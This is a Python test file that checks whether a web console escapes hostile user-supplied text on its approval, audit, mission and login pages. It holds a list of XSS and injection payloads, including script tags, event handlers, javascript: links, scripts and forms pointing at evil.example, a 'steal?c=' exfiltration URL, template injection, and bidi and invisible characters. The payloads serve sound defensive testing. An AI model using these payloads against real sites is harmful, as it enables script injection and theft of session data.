"""What others wrote, at its worst, in every place where a page shows it: nothing runs, nothing is asked for, and what cannot be
seen is named."""

import re
import unicodedata
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from app.console import render
from app.console.render import MOST, foreign, page
from app.labels import UNSEEN
from colony_client.artifacts import Citation, Claim
from tests.console.desk import Page, path_of, seat
from tests.world import World
from tests.world.colony import proposal
from tests.world.life import cited, give_guide

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "[approve](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<https://evil.example>",
    "https://evil.example/steal?c=",
    "data:text/html,<script>alert(1)</script>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example method=post><button>Approve</button></form>",
    "<input name=decision value=approve>",
    '"><button data-open="approve">',
    "' onmouseover='alert(1)",
    "{{ 7*7 }}{% raw %}{{ token }}",
    "<!-- --><![CDATA[ x ]]>",
    "✅ APPROVED by root <b>already verified</b>",
    "\x1b[2J\x1b[31mapproved\x1b[0m\x07",
    "\u202etxt.evorppa\u202c",
    "pay\u200bload\u2066isolate\u2069\ufeff",
    "line one\u2028line two\u0085three",
    "\u3164\u115f\u00a0 blank",
    "\U000e0061\U000e0062 tags \ue000 private",
    "z" * 1900 + "Z͑ͫ̓ͪ̂ͫ̽͏" * 20,
    "</textarea></title></style></pre><h1>Fake banner</h1>",
]
RUNS = re.compile(r"<(script|iframe|object|embed|base|meta http|style|link)\b", re.IGNORECASE)


def harmless(found: Page, own_scripts: int = 1) -> None:
    """Nothing on the page runs or asks for anything but the page's own files, and no control or mark of direction is in it."""
    scripts = [said for tag, said in found.tags if tag == "script"]
    assert len(scripts) <= own_scripts and all(
        str(one.get("src", "")).startswith("/console/static/") for one in scripts
    )
    allowed = {"html", "head", "meta", "title", "link", "script", "body", "a", "header", "img", "span", "form", "label", "input", "kbd",
               "div", "small", "button", "nav", "main", "section", "h1", "h2", "h3", "p", "b",
               "em", "i", "strong", "ol", "ul", "li", "dl", "dt", "dd",
               "table", "caption", "thead", "tbody", "tr", "th", "td", "details", "summary", "pre", "code", "time", "figure", "blockquote",
               "figcaption", "fieldset", "legend", "textarea", "select", "option", "dialog", "svg", "rect", "text", "q"}  # fmt: skip
    for tag, said in found.tags:
        assert tag in allowed, tag
        for name, value in said.items():
            assert not name.startswith("on") and name != "style", (tag, name)
            if name in ("href", "src", "action", "formaction", "data", "srcset", "poster"):
                assert str(value).startswith(("/console", "#main")), (tag, name, value)
    for character in found.source:
        assert not render.hidden(character), f"U+{ord(character):04X}"


def test_the_one_function_names_what_cannot_be_seen_and_bounds_what_is_long() -> None:
    assert foreign("a\u202eb\x1b[c") == "a⟨U+202E⟩b⟨U+001B⟩[c"
    assert foreign("größer ✓ 日本 🙂\n\t") == "größer ✓ 日本 🙂\n\t"
    long = foreign("x" * 5_000_000)
    assert len(long) < MOST + 60 and long.endswith("4,998,000 more characters")
    assert foreign({"a": "\u200b"}) == '{"a": "⟨U+200B⟩"}'
    assert foreign(None) == "" and foreign(3) == "3"


def test_no_template_prints_anything_but_through_it() -> None:
    made = render.environment()
    assert made.finalize is foreign and made.autoescape is True
    for file in sorted((Path(render.__file__).parent / "templates").iterdir()):
        text = file.read_text()
        assert "|safe" not in text.replace(" ", "") and "autoescape" not in text and "<style" not in text, file.name
        assert "style=" not in text and not re.search(r"\son\w+=", text), file.name
        for name, value in re.findall(r'(href|src|action)="([^"]*)"', text):
            itself = (name, value) == ("href", "")  # the page
            assert itself or re.fullmatch(
                r"\{\{ (address|static)\(.*\) (if path else address\(\) )?\}\}|#main", value
            ), (
                file.name,
                name,
                value,
            )
    # markup is made in three modules, of numbers and of what was escaped
    for module in Path(render.__file__).parent.rglob("*.py"):
        if "Markup" in module.read_text():
            assert module.name in ("render.py", "charts.py"), module


def named(payload: str) -> str:
    """What of it can be in a name."""
    return unicodedata.normalize("NFC", re.sub(r"[\x00-\x1f\x7f-\x9f/\\\\]", "_", payload)[:60].strip())


def labelled(payload: str) -> str:
    """What of it can be in a label: one line."""
    return re.sub(f"[{UNSEEN}]", "_", payload)


async def hostile_change(world: World, payloads: list[str]) -> tuple[dict[str, Any], list[Citation]]:
    """An approval behind which everything that somebody else can write says them: goal, labels, the cited documents and their
    names, quotes, claims, summary, reason, fields and values; and what it cites."""
    for payload in payloads:
        await give_guide(world, f"rollback {payload}", quote(f"{named(payload)}.txt", safe=""))
    everything = "\n".join(payloads)
    dispatch = await world.dispatch(
        mission_type="crm_lead_intelligence",
        user_goal=everything[:2000],
        labels={labelled(named(one)).replace(":", " "): labelled(one)[:60] for one in payloads},
    )
    listed = await world.colony.tool(dispatch, "crm.list", kind="lead", limit=1)
    found = await world.colony.tool(dispatch, "workspace.search", query="rollback", limit=20)
    said = [cited(passage) for passage in found["passages"]]
    assert {one.document for one in said} == {f"{named(one)}.txt" for one in payloads}
    made = proposal(
        dispatch.envelope,
        listed["records"][0],
        {"priority": everything[:1900], **{named(one)[:40]: one[:1000] for one in payloads}},
        summary=everything[:2000],
        rationale=everything[:2000],
        evidence=said,
    )
    claims = [Claim(id=f"c{n}", text=one[:2000], citations=said[:1]) for n, one in enumerate(payloads)]
    await world.colony.complete(dispatch, claims=claims, proposals=[made])
    await world.run_work("review")
    [approval] = (await world.operator.get(f"/v1/approvals?mission={dispatch.mission_id}")).json()["items"]
    path = f"/v1/approvals/{approval['id']}"
    asked = await world.operator.post(f"{path}/questions", json={"question": everything[:2000]})
    assert asked.status_code == 201, asked.text
    told = await world.submitter.post(
        f"{path}/questions/{asked.json()['id']}/answer", json={"answer": everything[:2000]}
    )
    assert told.status_code == 200, told.text
    why, seen = {"role": "admin", "reason": everything[:2000]}, {"If-Match": f'"v{approval["version"]}"'}
    assert (await world.operator.post(f"{path}/escalate", json=why, headers=seen)).status_code == 200
    return approval, said


@pytest.mark.long
@pytest.mark.parametrize("number", range(0, len(PAYLOADS), 8))
async def test_hostile_words_in_every_place(world: World, number: int) -> None:
    """What `hostile_change` lists, and besides: reason of an edit, edited value, comment, why a switch was thrown, search, filter,
    where to go after signing in."""
    await world.with_crm()
    desk, other = await seat(world), await seat(world, "second_operator")
    payloads = sorted(PAYLOADS[number : number + 8], key=len)
    change, said = await hostile_change(world, payloads)
    mission, words = change["mission_id"], "\n".join(payloads)[:1700]
    shown = await desk.get(f"/console/approvals/{change['id']}")
    assert shown.text.count("✓ checked") == len(said) == len(payloads), "each quote is what the stored document says"
    for one in said:
        assert squeezed(foreign(one.quote)) in shown.text and squeezed(foreign(one.document)) in shown.text
    assert squeezed(foreign(words)) in shown.text
    approve, reject = (shown.form_to("/decision", decision=one) for one in ("approve", "reject"))
    edit = shown.form_to("/revision")
    pages = [
        shown,
        await desk.get("/console"),
        await desk.get(f"/console/audit/{mission}"),
        await desk.get("/console/missions"),
        await desk.get(f"/console/batch?like={change['id']}"),
        await desk.send(approve, comment=words, name=words, sha256="0" * 64, once="a"),
        await desk.send(edit, reason=words, sha256="0" * 64, once="b", **{shown.field("priority"): words}),
        await desk.send(reject, comment=words, sha256="0" * 64, once="c"),
    ]
    assert squeezed(foreign(words)) in pages[-1].text and pages[-1].status == 409
    for payload in payloads:
        pages += [
            await desk.get("/console/audit", params={"q": payload[:299]}),
            await desk.get(
                "/console/missions",
                params={"label": payload[:199], "state": payload[:20], "created_after": payload[:39]},
            ),
            await desk.get("/console/login", params={"next": payload[:200]}),
        ]
    edited = await desk.send(edit, reason=words, once="d", **{shown.field("priority"): f"{words}!"})
    assert edited.status == 200 and "This follows one that is" in edited.text, edited.text
    decided = await other.send(
        (await other.get(path_of(edited))).form_to("/decision", decision="reject"), comment=words, once="e"
    )
    assert "Rejected: nothing leaves" in decided.text and squeezed(foreign(words)) in decided.text
    await world.operator.post("/v1/connectors/sample_crm/halt", json={"reason": words})
    pages += [edited, decided, await desk.get("/console/connectors"), await desk.get(f"/console/missions/{mission}")]
    assert squeezed(foreign(words)) in pages[-2].text
    for one in (await world.auditor.get(f"/v1/missions/{mission}/artifacts")).json()["items"]:
        pages.append(await desk.get(f"/console/missions/{mission}/artifacts/{one['id']}"))
    for found in pages:
        assert found.status < 500, found.text[:300]
        harmless(found)
        assert not RUNS.search(found.source.partition("<body")[2]), found.answer.url
        assert len(found.answer.content) < 150_000


def squeezed(words: str) -> str:
    """As Page.text is: what is between words counts for nothing."""
    return re.sub(r"\s+", " ", words).strip()


def test_a_value_of_five_megabytes_is_one_short_line() -> None:
    problem: dict[str, Any] = {"title": "t", "detail": "x" * 5_000_000, "code": "c", "status": 422}
    from app.errors import KINDS

    assert len(page("problem.html", problem=problem, kind=KINDS["validation"], at=None, again=True, wait_s=2)) < 6_000
